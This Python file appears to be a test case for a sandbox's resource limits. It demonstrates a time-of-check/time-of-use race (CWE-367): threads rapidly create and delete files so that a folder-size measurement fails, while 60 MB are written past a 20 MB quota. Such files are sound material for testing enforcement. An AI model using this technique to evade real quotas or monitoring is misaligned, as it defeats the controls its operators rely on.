"""Make files vanish while they are counted.

Attacks: whoever measures the scratch folder.
How: one thread makes and deletes files without end, another writes.
Source: CWE-367; scandir then stat.
Breach: 60 MB are held under a limit of 20 MB for two seconds.
"""

import os
import threading
import time

GROUP, LIMITS, ENDS = "resources", {"scratch_mb": 20, "wall_s": 10}, ("file_size",)


def attack(outside):
    def flicker(number):
        while True:
            os.mkdir(f"d{number}")
            open(f"d{number}/x", "w").close()
            os.rename(f"d{number}/x", f"d{number}/y")
            os.unlink(f"d{number}/y")
            os.rmdir(f"d{number}")

    for number in range(3):
        threading.Thread(target=flicker, args=(number,), daemon=True).start()
    for number in range(3):
        with open(f"f{number}", "wb") as file:
            file.write(bytes(20_000_000))
    time.sleep(3)
    return "60 MB were held"
